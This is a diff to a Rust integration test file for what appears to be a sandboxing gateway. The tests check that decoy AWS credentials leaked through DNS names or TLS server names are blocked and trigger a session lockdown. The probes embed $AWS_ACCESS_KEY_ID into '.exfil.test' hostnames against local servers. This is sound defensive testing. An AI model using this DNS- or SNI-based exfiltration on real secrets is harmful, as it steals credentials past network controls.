@@ -7,7 +7,7 @@
 //! plain HTTP (real `curl` against Python's `http.server` on an extra loopback address,
 //! named by a test resolver), an inspected host, a TLS server name (Python's `ssl`), and a
 //! name asked of the session's resolver.
-use std::net::{IpAddr, Ipv4Addr, TcpStream};
+use std::net::{IpAddr, Ipv4Addr};
 
 use serde_json::{Value, json};
 
@@ -54,16 +54,7 @@ fn server(dir: &Scratch) -> Servers {
         .stdin(std::process::Stdio::null())
         .spawn()
         .unwrap();
-    let servers = Servers(vec![child]);
-    let deadline = std::time::Instant::now() + MUST_HAPPEN_WITHIN;
-    while TcpStream::connect((SERVER_IP, PORT)).is_err() {
-        assert!(
-            std::time::Instant::now() < deadline,
-            "the server did not start"
-        );
-        std::thread::sleep(Duration::from_millis(50));
-    }
-    servers
+    Servers::listening(child, (SERVER_IP, PORT).into())
 }
 
 /// A run of `sh -c SCRIPT` under gatewayd with `policy`; the decoys' variables are not
@@ -392,46 +383,67 @@ fn canary_in_a_dns_name_locks_the_session_down() {
     dns_server(DNS, recording);
     let py = dir.path("query.py");
     std::fs::write(&py, QUERY).unwrap();
+    let probe = format!(
+        r#"/usr/bin/python3 {} "$(printf %s "$AWS_ACCESS_KEY_ID" | tr A-Z a-z).exfil.test" {DNS}"#,
+        py.display()
+    );
+    let fake_id = "AKIABARE0STAND0IN00X";
+    let run = decoy_in_a_name(&dir, &probe, fake_id);
+    // Bare: the name, the key id in it, reached the DNS server; under gatewayd, NXDOMAIN.
+    assert!(run.bare.contains("answer rcode="), "answered: {}", run.bare);
+    assert!(asked(fake_id), "bare, the name left: {:?}", ASKED.lock());
+    assert_eq!(run.probe, "answer rcode=3", "NXDOMAIN");
+    assert!(
+        !asked(&run.value),
+        "the decoy never left: {:?}",
+        ASKED.lock()
+    );
+    the_canary_record(&run.audit, "env:AWS_ACCESS_KEY_ID", "egress_resolver");
+}
+
+/// What [`decoy_in_a_name`] saw.
+struct NameRun {
+    /// The bare run's output.
+    bare: String,
+    /// The line the probe printed under gatewayd.
+    probe: String,
+    /// The AWS key id decoy the session held.
+    value: String,
+    audit: PathBuf,
+}
+
+/// A decoy sent in a name: `probe` (a shell line naming `$AWS_ACCESS_KEY_ID` in a name)
+/// between two connects to a listener, run bare with `fake_id` in the variable, then under
+/// gatewayd with egress by name and the environment's decoys. Holds, of the run under
+/// gatewayd: the connect before goes through, the one after is refused (the lockdown) and
+/// nothing more reaches the listener; the decoy is an AWS key id; no record holds it, in any
+/// case.
+fn decoy_in_a_name(dir: &Scratch, probe: &str, fake_id: &str) -> NameRun {
     let (port, rx) = listener("127.0.0.1:0");
     let agent = agent();
     let to = format!("127.0.0.1:{port}");
     let sh = format!(
-        r#"{agent} send {to} before
-/usr/bin/python3 {q} "$(printf %s "$AWS_ACCESS_KEY_ID" | tr A-Z a-z).exfil.test" {DNS}
-{agent} send {to} after
-echo "value $AWS_ACCESS_KEY_ID"
-"#,
-        q = py.display()
+        "{agent} send {to} before\n{probe}\n{agent} send {to} after\necho \"value $AWS_ACCESS_KEY_ID\"\n"
     );
-
-    // Bare: the name, the key id in it, reaches the DNS server.
-    let fake_id = "AKIABARE0STAND0IN00X";
     let bare = Command::new("sh")
         .args(["-c", &sh])
         .env("AWS_ACCESS_KEY_ID", fake_id)
         .output()
         .unwrap();
-    assert!(
-        stdout(&bare).contains("answer rcode="),
-        "answered: {bare:?}"
-    );
-    assert!(asked(fake_id), "bare, the name left: {:?}", ASKED.lock());
     for _ in 0..2 {
         rx.recv_timeout(MUST_HAPPEN_WITHIN).unwrap();
     }
-
     let policy = json!({"version": 1, "kernel": "best_effort",
         "network": {"proxy": true, "egress": [
             {"host": "allowed.test"},
             {"cidr": "127.0.0.1/32", "port": port}]},
         "canaries": {"env": true}});
-    let (out, audit) = under(&dir, policy, &format!("{sh}\n"));
+    let (out, audit) = under(dir, policy, &sh);
     let lines: Vec<&str> = out.lines().collect();
     assert!(
         lines.first().is_some_and(|l| l.starts_with("OK send")),
         "{out}"
     );
-    assert_eq!(lines.get(1), Some(&"answer rcode=3"), "NXDOMAIN: {out}");
     assert!(
         lines.get(2).is_some_and(|l| l.starts_with("FAIL send")),
         "the lockdown: {out}"
@@ -441,12 +453,10 @@ echo "value $AWS_ACCESS_KEY_ID"
         .and_then(|l| l.strip_prefix("value "))
         .unwrap_or("");
     assert!(value.starts_with("AKIA") && value.len() == 20, "{out}");
-    assert!(!asked(value), "the decoy never left: {:?}", ASKED.lock());
     let got: Vec<Vec<u8>> = std::iter::from_fn(|| rx.recv_timeout(Duration::from_millis(500)).ok())
         .take(3)
         .collect();
     assert_eq!(got, [b"before".to_vec()], "nothing after the canary");
-    the_canary_record(&audit, "env:AWS_ACCESS_KEY_ID", "egress_resolver");
     let all = std::fs::read_to_string(&audit)
         .unwrap()
         .to_ascii_lowercase();
@@ -454,6 +464,12 @@ echo "value $AWS_ACCESS_KEY_ID"
         !all.contains(&value.to_ascii_lowercase()),
         "the decoy's value is in no record, in any case"
     );
+    NameRun {
+        bare: stdout(&bare),
+        probe: lines.get(1).copied().unwrap_or_default().to_owned(),
+        value: value.to_owned(),
+        audit,
+    }
 }
 
 /// A TLS server on `argv[1]:argv[2]` (certificate `argv[3]`, key `argv[4]`) that appends each
@@ -518,89 +534,38 @@ fn canary_in_a_tls_server_name_locks_the_session_down() {
         .stdin(std::process::Stdio::null())
         .spawn()
         .unwrap();
-    let _server = Servers(vec![child]);
-    let deadline = std::time::Instant::now() + MUST_HAPPEN_WITHIN;
-    while TcpStream::connect((SNI_IP, SNI_PORT)).is_err() {
-        assert!(
-            std::time::Instant::now() < deadline,
-            "the server did not start"
-        );
-        std::thread::sleep(Duration::from_millis(50));
-    }
-    let (port, rx) = listener("127.0.0.1:0");
-    let agent = agent();
-    let to = format!("127.0.0.1:{port}");
-    let sh = format!(
-        r#"{agent} send {to} before
-/usr/bin/python3 {c} "$AWS_ACCESS_KEY_ID.exfil.test" {SNI_IP} {SNI_PORT}
-{agent} send {to} after
-echo "value $AWS_ACCESS_KEY_ID"
-"#,
-        c = client_py.display()
-    );
+    let _server = Servers::listening(child, (SNI_IP, SNI_PORT).into());
     let asked_for = |part: &str| {
         std::fs::read_to_string(&asked)
             .unwrap_or_default()
             .to_ascii_lowercase()
             .contains(&part.to_ascii_lowercase())
     };
-
-    // Bare: the handshake is made, and the server is asked for the name, the key id in it.
+    let probe = format!(
+        r#"/usr/bin/python3 {} "$AWS_ACCESS_KEY_ID.exfil.test" {SNI_IP} {SNI_PORT}"#,
+        client_py.display()
+    );
     let fake_id = "AKIABARE0STAND0IN00Y";
-    let bare = Command::new("sh")
-        .args(["-c", &sh])
-        .env("AWS_ACCESS_KEY_ID", fake_id)
-        .output()
-        .unwrap();
-    assert!(stdout(&bare).contains("tls TLSv1"), "bare: {bare:?}");
+    let run = decoy_in_a_name(&dir, &probe, fake_id);
+    // Bare: the handshake was made, the server asked for the name, the key id in it; under
+    // gatewayd, no handshake.
+    assert!(run.bare.contains("tls TLSv1"), "bare: {}", run.bare);
     assert!(asked_for(fake_id), "bare, the name left");
-    for _ in 0..2 {
-        rx.recv_timeout(MUST_HAPPEN_WITHIN).unwrap();
-    }
-
-    let policy = json!({"version": 1, "kernel": "best_effort",
-        "network": {"proxy": true, "egress": [
-            {"host": "allowed.test"},
-            {"cidr": "127.0.0.1/32", "port": port}]},
-        "canaries": {"env": true}});
-    let (out, audit) = under(&dir, policy, &sh);
-    let lines: Vec<&str> = out.lines().collect();
     assert!(
-        lines.first().is_some_and(|l| l.starts_with("OK send")),
-        "{out}"
+        run.probe.starts_with("tls ") && !run.probe.starts_with("tls TLSv1"),
+        "no handshake: {}",
+        run.probe
     );
-    assert!(
-        lines
-            .get(1)
-            .is_some_and(|l| l.starts_with("tls ") && !l.starts_with("tls TLSv1")),
-        "no handshake: {out}"
+    assert!(!asked_for(&run.value), "the decoy never left");
+    let r = the_canary_record(
+        &run.audit,
+        "env:AWS_ACCESS_KEY_ID",
+        "egress_proxy_server_name",
     );
-    assert!(
-        lines.get(2).is_some_and(|l| l.starts_with("FAIL send")),
-        "the lockdown: {out}"
-    );
-    let value = lines
-        .get(3)
-        .and_then(|l| l.strip_prefix("value "))
-        .unwrap_or("");
-    assert!(value.starts_with("AKIA") && value.len() == 20, "{out}");
-    assert!(!asked_for(value), "the decoy never left");
-    let got: Vec<Vec<u8>> = std::iter::from_fn(|| rx.recv_timeout(Duration::from_millis(500)).ok())
-        .take(3)
-        .collect();
-    assert_eq!(got, [b"before".to_vec()], "nothing after the canary");
-    let r = the_canary_record(&audit, "env:AWS_ACCESS_KEY_ID", "egress_proxy_server_name");
     assert!(
         r["detail"]["host"]
             .as_str()
             .is_some_and(|h| h.ends_with(".exfil.test")),
         "{r:#}"
-    );
-    let all = std::fs::read_to_string(&audit)
-        .unwrap()
-        .to_ascii_lowercase();
-    assert!(
-        !all.contains(&value.to_ascii_lowercase()),
-        "the decoy's value is in no record, in any case"
     );
 }
